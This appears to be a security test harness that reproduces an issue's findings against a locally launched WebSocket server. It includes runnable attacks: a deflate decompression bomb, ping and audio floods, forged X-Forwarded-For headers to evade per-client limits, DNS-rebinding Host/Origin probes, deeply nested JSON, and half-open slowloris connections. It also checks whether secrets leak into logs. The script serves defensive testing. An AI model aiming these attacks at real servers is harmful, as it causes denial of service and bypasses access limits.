"""Reproduce issue 12's findings against a local server and print what each one measured.

    python -m bench.attack                      # every attack, about 2 minutes
    python -m bench.attack --only bomb,flood    # a subset

Starts the simulator (`python -m simulator`) and the server (`python main.py`) as child processes
on loopback ports, attacks only those, is bounded in time and connections, and stops both itself.
The server's RSS is read from /proc; upstream audio from the simulator's own counters.
"""

import argparse
import asyncio
import base64
import json
import os
import signal
import socket
import statistics
import struct
import subprocess
import sys
import tempfile
import time
import zlib
from contextlib import suppress
from pathlib import Path
from typing import Any

import httpx
from websockets.asyncio.client import connect
from websockets.exceptions import ConnectionClosed, InvalidStatus, WebSocketException

from bench.patient import BrowserClient, converse

ROOT = Path(__file__).resolve().parent.parent
TOKEN = "tok-attack-marker-5150"
SERVER_KEY = "AIzaSyATTACKmarker0123456789abcdefgh"
URL_PASSWORD = "urlpass-marker-4242"
PER_CLIENT = 3
# The bomb and the flood come from another loopback address than the measuring client, as an
# attacker's machine would.
ATTACKER = "127.0.0.2"
ATTACKS = ("bomb", "flood", "rebind", "xff", "audio", "json", "secrets", "misc")


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port: int = sock.getsockname()[1]
        return port


def rss_mib(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


class Simulator:
    def __init__(self, workdir: Path) -> None:
        self.port = free_port()
        self.process = subprocess.Popen(
            [sys.executable, "-m", "simulator", "--port", str(self.port), "--time-scale", "0.1"],
            cwd=ROOT,
            stdout=subprocess.PIPE,
            stderr=(workdir / "simulator.log").open("wb"),
            text=True,
        )
        assert self.process.stdout is not None
        lines = dict(self.process.stdout.readline().strip().split(": ", 1) for _ in range(2))
        self.base_url, self.ca_file = lines["base_url"], lines["ca_file"]

    def stats(self) -> dict[str, Any]:
        response = httpx.get(self.base_url + "/_stats", verify=self.ca_file)
        stats: dict[str, Any] = response.json()
        return stats

    def audio_seconds(self) -> float:
        return sum(s["audio_bytes_received"] for s in self.stats()["sessions"]) / 32000

    def reset(self) -> None:
        httpx.post(self.base_url + "/_reset", verify=self.ca_file)

    def stop(self) -> None:
        self.process.send_signal(signal.SIGTERM)
        try:
            self.process.wait(10)
        except subprocess.TimeoutExpired:
            self.process.kill()


class Server:
    """`python main.py` relaying to the simulator with a server key and a token."""

    def __init__(self, workdir: Path, sim: Simulator, log_level: str = "INFO") -> None:
        self.port = free_port()
        self.workdir = workdir
        self.log = workdir / "server.log"
        self.storage = workdir / "conversations"
        self.storage.mkdir(mode=0o755, exist_ok=True)
        self.storage.chmod(0o755)
        host = sim.base_url.split("://", 1)[1]
        environ = {k: v for k, v in os.environ.items() if not k.startswith(("GEMINI_", "UPSTREAM"))}
        environ.update(
            GEMINI_API_KEY=SERVER_KEY,
            # Credentials in the base URL must never reach a log line.
            GEMINI_BASE_URL=f"https://gw:{URL_PASSWORD}@{host}",
            GEMINI_CA_FILE=sim.ca_file,
            PORT=str(self.port),
            ACCESS_TOKEN=TOKEN,
            LOG_LEVEL=log_level,
            MAX_SESSIONS_PER_CLIENT=str(PER_CLIENT),
            CONVERSATION_STORAGE_PATH=str(self.storage),
            SESSION_LOG_PATH=str(workdir / "session_logs"),
            PYTHONUNBUFFERED="1",
        )
        self._out = self.log.open("ab")
        self.process = subprocess.Popen(
            [sys.executable, str(ROOT / "main.py")],
            cwd=workdir,
            env=environ,
            stdout=self._out,
            stderr=self._out,
        )
        self.base_url = f"http://127.0.0.1:{self.port}"
        self.ws_url = f"ws://127.0.0.1:{self.port}/ws"
        deadline = time.monotonic() + 20
        while time.monotonic() < deadline:
            if self.process.poll() is not None:
                raise RuntimeError(f"server exited: {self.log.read_text()[-2000:]}")
            with suppress(httpx.TransportError):
                if httpx.get(self.base_url + "/health").status_code == 200:
                    return
            time.sleep(0.1)
        raise RuntimeError("server did not come up")

    @property
    def rss(self) -> float:
        return rss_mib(self.process.pid)

    def stop(self) -> None:
        if self.process.poll() is None:
            self.process.send_signal(signal.SIGTERM)
            try:
                self.process.wait(20)
            except subprocess.TimeoutExpired:
                self.process.kill()
                self.process.wait()
        self._out.close()


async def health_latencies(server: Server, stop: asyncio.Event, failures: list[str]) -> list[float]:
    """GET /health every 200 ms until `stop`; a request that fails counts as 10 s."""
    latencies: list[float] = []
    async with httpx.AsyncClient(base_url=server.base_url, timeout=10) as http:
        while not stop.is_set():
            started = time.monotonic()
            try:
                await http.get("/health")
                latencies.append(time.monotonic() - started)
            except httpx.HTTPError as exc:
                latencies.append(10.0)
                failures.append(type(exc).__name__)
            with suppress(TimeoutError):
                await asyncio.wait_for(stop.wait(), 0.2)
    return latencies


async def one_intake(server: Server) -> float:
    """An intake spoken at real time, as a microphone sends; its wall time (-1: it failed)."""
    started = time.monotonic()
    try:
        ws = await connect(
            f"{server.ws_url}?token={TOKEN}",
            origin=f"http://127.0.0.1:{server.port}",  # type: ignore[arg-type]
            max_size=2**22,
            open_timeout=30,
        )
        client = BrowserClient(ws)
        await client.wait_for("status")
        await asyncio.wait_for(converse(client, "simple_visit", speech_pace=0.1), 90)
        await client.close()
    except (AssertionError, WebSocketException, OSError, TimeoutError) as exc:
        print(f"  intake failed: {type(exc).__name__}: {str(exc)[:120]}")
        return -1.0
    return time.monotonic() - started


async def under_attack(server: Server, name: str, seconds: float) -> None:
    baseline_intake = await one_intake(server)
    rss_before = server.rss
    stop = asyncio.Event()
    failures: list[str] = []
    health = asyncio.create_task(health_latencies(server, stop, failures))
    peak = asyncio.create_task(rss_peak(server, stop))
    attacker = asyncio.create_task(attacker_process(server, name, seconds))
    await asyncio.sleep(0.5)
    intake = await one_intake(server)
    note = "ran until stopped"
    with suppress(TimeoutError):
        note = await asyncio.wait_for(asyncio.shield(attacker), seconds + 5)
    attacker.cancel()
    with suppress(asyncio.CancelledError):
        await attacker
    stop.set()
    latencies, highest = await health, await peak
    await asyncio.sleep(1.0)
    print(f"  attacker: {note}")
    print(f"  RSS before / peak / after: {rss_before:.0f} / {highest:.0f} / {server.rss:.0f} MiB")
    print(
        f"  /health during the attack: p50 {statistics.median(latencies) * 1000:.0f} ms, "
        f"p95 {statistics.quantiles(latencies, n=20)[-1] * 1000:.0f} ms, "
        f"max {max(latencies) * 1000:.0f} ms (n={len(latencies)}, failed: {failures or 'none'})"
    )
    print(f"  concurrent intake: {intake:.1f} s (alone: {baseline_intake:.1f} s)")


async def rss_peak(server: Server, stop: asyncio.Event) -> float:
    peak = 0.0
    while not stop.is_set():
        with suppress(OSError):
            peak = max(peak, server.rss)
        with suppress(TimeoutError):
            await asyncio.wait_for(stop.wait(), 0.1)
    return peak


def _frame_header(opcode: int, length: int, *, rsv1: bool = False) -> bytes:
    """A client frame header, masked with a zero key (legal, and the payload needs no XOR)."""
    first = 0x80 | (0x40 if rsv1 else 0) | opcode
    if length < 126:
        head = struct.pack("!BB", first, 0x80 | length)
    elif length < 65536:
        head = struct.pack("!BBH", first, 0x80 | 126, length)
    else:
        head = struct.pack("!BBQ", first, 0x80 | 127, length)
    return head + bytes(4)


async def deflate_bomb(port: int, seconds: float) -> str:
    """16 MiB of zeros per message, about 16 KB on the wire when per-message deflate is on."""
    zeros = bytes(16 * 1024 * 1024 - 64)
    squeeze = zlib.compressobj(9, zlib.DEFLATED, -12)
    inflated = squeeze.compress(zeros) + squeeze.flush(zlib.Z_SYNC_FLUSH)
    bomb = _frame_header(0x2, len(inflated) - 4, rsv1=True) + inflated[:-4]
    plain = _frame_header(0x2, len(zeros)) + zeros
    sent = closed = 0
    deflate = False
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
            writer.write(
                _ws_handshake(
                    f"127.0.0.1:{port}",
                    f"/ws?token={TOKEN}",
                    "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits\r\n",
                )
            )
            response = await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            negotiated = b"permessage-deflate" in response.lower()
            deflate = deflate or negotiated
            while time.monotonic() < deadline:
                # Without deflate a client can only send the 16 MiB as they are.
                writer.write(bomb if negotiated else plain)
                await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
                sent += 1
                if reader.at_eof():
                    raise ConnectionResetError
        except (OSError, TimeoutError, asyncio.IncompleteReadError):
            closed += 1
            await asyncio.sleep(0.05)
    wire = len(bomb) if deflate else len(plain)
    return (
        f"{sent} messages of 16 MiB sent ({wire} bytes each on the wire), "
        f"{closed} connections closed by the server (deflate {'accepted' if deflate else 'refused'})"
    )


def _ws_handshake(host: str, path: str, extra: str = "") -> bytes:
    key = base64.b64encode(os.urandom(16)).decode()
    return (
        f"GET {path} HTTP/1.1\r\nHost: {host}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        f"Sec-WebSocket-Key: {key}\r\nSec-WebSocket-Version: 13\r\n{extra}\r\n"
    ).encode()


def _masked_frame(opcode: int, payload: bytes) -> bytes:
    mask = os.urandom(4)
    body = bytes(b ^ mask[i % 4] for i, b in enumerate(payload))
    assert len(payload) < 126
    return struct.pack("!BB", 0x80 | opcode, 0x80 | len(payload)) + mask + body


async def ping_flood(port: int, seconds: float) -> str:
    """Pings as fast as the socket takes them, pongs never read; reconnects when dropped."""
    ping = _masked_frame(0x9, b"p" * 125) * 512
    sent = dropped = 0
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        writer = None
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port, local_addr=(ATTACKER, 0))
            writer.get_extra_info("socket").setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            writer.write(_ws_handshake(f"127.0.0.1:{port}", f"/ws?token={TOKEN}"))
            await asyncio.wait_for(reader.readuntil(b"\r\n\r\n"), 5)
            while time.monotonic() < deadline:
                writer.write(ping)
                await asyncio.wait_for(writer.drain(), max(0.1, deadline - time.monotonic()))
                sent += 512
        except (OSError, asyncio.IncompleteReadError):
            dropped += 1
            await asyncio.sleep(0.05)
        except TimeoutError:
            pass  # the server stopped reading: TCP pushes back, the loop ends at the deadline
        finally:
            if writer is not None:
                writer.close()
    return f"{sent} pings of 125 bytes sent, no pong read, {dropped} connections dropped by the server"


ATTACKERS = {"bomb": deflate_bomb, "flood": ping_flood}


async def attacker_process(server: Server, name: str, seconds: float) -> str:
    """The attacker runs in its own process, so it never slows the measuring client."""
    process = await asyncio.create_subprocess_exec(
        sys.executable,
        "-m",
        "bench.attack",
        "--attacker",
        name,
        "--port",
        str(server.port),
        "--seconds",
        str(seconds),
        cwd=ROOT,
        stdout=asyncio.subprocess.PIPE,
    )
    try:
        out, _ = await asyncio.wait_for(process.communicate(), seconds + 30)
    except TimeoutError:
        process.kill()
        await process.wait()
        return "attacker did not stop by itself; killed"
    return out.decode().strip()


async def ws_verdict(server: Server, *, host: str | None = None, origin: str | None = None) -> str:
    """What a browser page would get: `ready`, an error code, or the refusal."""
    # A rebinding page's browser connects to the server's address but names its own host.
    url = f"ws://{host}/ws?token={TOKEN}" if host else f"{server.ws_url}?token={TOKEN}"
    sock = socket.create_connection(("127.0.0.1", server.port))
    try:
        async with connect(
            url,
            sock=sock,
            origin=origin,  # type: ignore[arg-type]
            open_timeout=10,
        ) as ws:
            while True:
                message = json.loads(await asyncio.wait_for(ws.recv(), 10))
                if message.get("state") == "ready":
                    return "ready (full session)"
                if message["type"] == "error":
                    return f"error {message['code']}"
    except InvalidStatus as exc:
        return f"refused HTTP {exc.response.status_code}"
    except ConnectionClosed as exc:
        return f"closed {exc.rcvd.code if exc.rcvd else None}"
    except (TimeoutError, OSError) as exc:
        return type(exc).__name__


async def rebinding(server: Server) -> None:
    evil = f"rebind.example:{server.port}"
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        status = await http.get("/api-key-status", headers={"Host": evil, "Authorization": f"Bearer {TOKEN}"})
    print(f"  /api-key-status with Host {evil}: HTTP {status.status_code}")
    print(f"  WS Host+Origin http://{evil}: {await ws_verdict(server, host=evil, origin=f'http://{evil}')}")
    same = f"127.0.0.1:{server.port}"
    print(f"  WS Origin https://{same} (wrong scheme): {await ws_verdict(server, origin=f'https://{same}')}")
    print(f"  WS Origin null: {await ws_verdict(server, origin='null')}")
    print(f"  WS Origin http://{same} (the page itself): {await ws_verdict(server, origin=f'http://{same}')}")


async def forged_xff(server: Server) -> None:
    opened = []
    admitted = 0
    for n in range(5):
        ws = await connect(
            f"{server.ws_url}?token={TOKEN}", additional_headers={"X-Forwarded-For": f"203.0.113.{n + 1}"}
        )
        opened.append(ws)
        message = json.loads(await asyncio.wait_for(ws.recv(), 10))
        while message["type"] == "status" and message["state"] != "ready":
            message = json.loads(await asyncio.wait_for(ws.recv(), 10))
        admitted += message.get("state") == "ready"
    for ws in opened:
        await ws.close()
    print(f"  5 sockets with forged X-Forwarded-For, per-client limit {PER_CLIENT}: {admitted} admitted")


async def audio_flood(server: Server, sim: Simulator, seconds: float = 10.0) -> None:
    sim.reset()
    frame = bytes(3200)
    sent = 0
    errors: dict[str, int] = {}
    async with connect(f"{server.ws_url}?token={TOKEN}", compression="deflate", max_size=2**22) as ws:
        client = BrowserClient(ws)
        await client.wait_for("status")
        deadline = time.monotonic() + seconds
        while time.monotonic() < deadline:
            await ws.send(frame)
            sent += 1
            if sent % 64 == 0:
                await asyncio.sleep(0)
        await asyncio.sleep(1.0)
        for message in client.of_type("error"):
            errors[message["code"]] = errors.get(message["code"], 0) + 1
        await client.close()
    await asyncio.sleep(0.5)
    print(f"  {seconds:.0f} s sending: {sent} frames = {sent * 0.1:.0f} s of audio offered")
    print(f"  audio upstream (simulator's count): {sim.audio_seconds():.1f} s; errors to the page: {errors}")


async def bad_json(server: Server) -> None:
    payloads = {
        "nesting 100k deep": "[" * 100_000,
        "5000-digit integer": '{"type":"control","action":' + "9" * 5000 + "}",
    }
    for name, text in payloads.items():
        async with connect(f"{server.ws_url}?token={TOKEN}", max_size=2**22) as ws:
            client = BrowserClient(ws)
            await client.wait_for("status")
            await ws.send(text[:8000])
            await ws.send('{"type":"interrupt"}')
            try:
                await client.wait_for("interrupted", within=5)
                after = "session went on"
            except AssertionError:
                after = f"session ended {client.closed.result() if client.closed.done() else ''}"
            codes = [(m["code"], m["message"][:60]) for m in client.of_type("error")]
            await client.close()
        print(f"  {name}: errors {codes}; {after}")


async def secrets_at_debug(server: Server) -> None:
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        await http.get(f"/?tok%65n={TOKEN}")
        await http.get(f"/api-key-status?api%5Fkey={SERVER_KEY}&token={TOKEN}")
        await http.get("/", headers={"Authorization": f"Bearer {TOKEN}"})
    async with connect(f"{server.ws_url}?token={TOKEN}", max_size=2**22) as ws:
        client = BrowserClient(ws)
        await client.wait_for("turn_complete")
        await client.close()
    await asyncio.sleep(0.5)
    text = server.log.read_text(errors="replace")
    found = {m: text.count(m) for m in (TOKEN, SERVER_KEY, URL_PASSWORD)}
    print(
        f"  DEBUG log: {len(text.splitlines())} lines; marker occurrences: token {found[TOKEN]}, "
        f"server key {found[SERVER_KEY]}, URL password {found[URL_PASSWORD]}"
    )


async def misc(server: Server) -> None:
    async with httpx.AsyncClient(base_url=server.base_url) as http:
        for path in ("/app/", "/docs", "/openapi.json"):
            response = await http.get(path)
            print(f"  {path} without a token: HTTP {response.status_code}")
        page = await http.get("/app/", headers={"Authorization": f"Bearer {TOKEN}"})
        wanted = ("content-security-policy", "x-content-type-options", "referrer-policy", "cache-control")
        print(f"  /app/ security headers: {[h for h in wanted if h in page.headers] or 'none'}")
        redirect = await http.get(
            "/app", headers={"Host": "evil.example", "Authorization": f"Bearer {TOKEN}"}
        )
        location = redirect.headers.get("location")
        print(f"  GET /app with Host evil.example: {redirect.status_code} Location {location}")
    mode = oct(server.storage.stat().st_mode & 0o777)
    print(f"  conversation directory created 0755 beforehand: now {mode}")
    print(f"  browser ?api_key=bad-key with a server key: {await browser_key_wins(server)}")
    held, seconds = await half_open_upgrades(server)
    print(f"  {held} half-open requests (headers never finished): still open after {seconds:.0f} s")


async def browser_key_wins(server: Server) -> str:
    try:
        async with connect(f"{server.ws_url}?token={TOKEN}&api_key=bad-key") as ws:
            while True:
                message = json.loads(await asyncio.wait_for(ws.recv(), 10))
                if message.get("state") == "ready":
                    return "server key used (ready)"
                if message["type"] == "error":
                    return f"browser key used ({message['code']})"
    except (ConnectionClosed, TimeoutError) as exc:
        return f"closed: {type(exc).__name__}"


async def half_open_upgrades(server: Server, count: int = 50, wait: float = 15.0) -> tuple[int, float]:
    writers = []
    for _ in range(count):
        reader, writer = await asyncio.open_connection("127.0.0.1", server.port)
        writer.write(b"GET /ws HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n")
        writers.append((reader, writer))
    await asyncio.sleep(wait)
    still = 0
    for reader, writer in writers:
        with suppress(OSError):
            writer.write(b"X-Late: 1\r\n")
            await writer.drain()
        try:
            data = await asyncio.wait_for(reader.read(1), 0.2)
            still += data != b""
        except TimeoutError:
            still += 1
        except OSError:
            pass
        writer.close()
    return still, wait


async def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.attack", description=__doc__)
    parser.add_argument("--only", default=",".join(ATTACKS), help=f"comma list of {', '.join(ATTACKS)}")
    parser.add_argument("--seconds", type=float, default=20.0, help="duration of the bomb and the flood")
    parser.add_argument("--attacker", choices=sorted(ATTACKERS), help=argparse.SUPPRESS)
    parser.add_argument("--port", type=int, help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.attacker:
        print(await ATTACKERS[args.attacker](args.port, args.seconds))
        return 0
    chosen = [a.strip() for a in args.only.split(",") if a.strip()]
    with tempfile.TemporaryDirectory(prefix="attack-") as tmp:
        workdir = Path(tmp)
        sim = Simulator(workdir)
        try:
            for name in chosen:
                print(f"== {name}", flush=True)
                (workdir / name).mkdir()
                server = Server(workdir / name, sim, "DEBUG" if name == "secrets" else "INFO")
                try:
                    match name:
                        case "bomb" | "flood":
                            await under_attack(server, name, args.seconds)
                        case "rebind":
                            await rebinding(server)
                        case "xff":
                            await forged_xff(server)
                        case "audio":
                            await audio_flood(server, sim)
                        case "json":
                            await bad_json(server)
                        case "secrets":
                            await secrets_at_debug(server)
                        case "misc":
                            await misc(server)
                        case _:
                            parser.error(f"unknown attack {name!r}")
                finally:
                    server.stop()
                if name == "secrets":
                    text = server.log.read_text(errors="replace")
                    leaked = [m for m in (TOKEN, SERVER_KEY, URL_PASSWORD) if m in text]
                    print(f"  after shutdown, markers in the whole log: {leaked or 'none'}")
        finally:
            sim.stop()
    return 0


if __name__ == "__main__":
    raise SystemExit(asyncio.run(main()))
